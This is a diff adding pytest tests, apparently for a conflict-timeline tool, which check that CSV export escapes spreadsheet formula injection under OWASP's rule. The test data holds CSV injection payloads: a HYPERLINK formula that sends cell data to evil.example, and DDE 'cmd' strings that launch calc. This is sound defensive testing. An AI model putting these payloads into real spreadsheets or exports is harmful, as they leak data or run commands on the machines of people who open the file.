@@ -1,0 +1,118 @@
+"""CSV exports cannot carry spreadsheet formulas (issue 18, point 5).
+
+The oracle is OWASP's rule, written out here: a text cell that begins with ``=``,
+``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms) gets a
+leading apostrophe, as does a text cell that already begins with one, so that
+dropping one leading apostrophe always gives the original text back. Numbers stay
+numbers.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+
+from conflict_timeline import (
+    ActorDefined,
+    Attack,
+    Coordinates,
+    PlaceDefined,
+    Source,
+    TimeExtent,
+    Timeline,
+    write_csv,
+)
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "'=already quoted",
+]
+
+
+def exported(*records: object) -> list[dict[str, str]]:
+    timeline = Timeline()
+    timeline.append(*records)  # type: ignore[arg-type]
+    out = io.StringIO()
+    write_csv(timeline, out)
+    return list(csv.DictReader(io.StringIO(out.getvalue())))
+
+
+def original(cell: str) -> str:
+    """The documented way back: drop one leading apostrophe."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_name_is_neutralised_and_recoverable(text: str) -> None:
+    (row,) = exported(ActorDefined(id="actor-1", name=text, actor_kind="state", notes=text))
+    for column in ("name", "notes"):
+        cell = row[column]
+        assert not cell.startswith(TRIGGERS), (column, cell)
+        assert cell.startswith("'")
+        assert original(cell) == text
+
+
+def test_every_text_column_is_neutralised() -> None:
+    src = (Source(publisher="-Reuters", title="=title", url="https://example.org/=x"),)
+    rows = exported(
+        ActorDefined(id="@side", name="+Side", actor_kind="state"),
+        PlaceDefined(
+            id="=town",
+            name="-Town",
+            place_kind="town",
+            aliases=("@alias",),
+            coordinates=Coordinates(lat=-10.5, lon=-20.25),
+        ),
+        Attack(
+            id="+attack",
+            occurred=TimeExtent.parse("2020-10-05"),
+            sources=src,
+            perpetrator="@side",
+            target_class="civilian",
+            target="=cmd|' /C calc'!A0",
+            means="-rockets",
+            place="=town",
+        ),
+    )
+    for row in rows:
+        for column, cell in row.items():
+            if NUMBER.fullmatch(cell):
+                continue
+            assert not cell.startswith(TRIGGERS), (column, cell)
+    place = next(r for r in rows if r["kind"] == "PlaceDefined")
+    assert (place["lat"], place["lon"]) == ("-10.5", "-20.25")  # numbers stay numeric
+    assert place["id"] == "'=town"
+    attack = next(r for r in rows if r["kind"] == "Attack")
+    assert attack["sources"].startswith("'-Reuters")
+    assert attack["place"] == "'=town"
+    assert original(attack["target"]) == "=cmd|' /C calc'!A0"
+
+
+def test_harmless_text_and_numbers_in_text_are_kept() -> None:
+    (row,) = exported(
+        ActorDefined(id="a", name="-5", actor_kind="state", notes="Don't panic: 2+2"),
+    )
+    assert row["name"] == "-5"  # a plain number is read as one, never as a formula
+    assert row["notes"] == "Don't panic: 2+2"
+    assert row["position"] == "1"
+
+
+@pytest.mark.parametrize("text", ["one\rtwo", "one\ntwo", "one\r\ntwo"])
+def test_line_breaks_inside_a_cell_keep_the_row_whole(text: str) -> None:
+    rows = exported(
+        ActorDefined(id="a", name="A", actor_kind="state", notes=text),
+        ActorDefined(id="b", name="B", actor_kind="state"),
+    )
+    assert [r["id"] for r in rows] == ["a", "b"]
+    assert rows[0]["notes"] == text
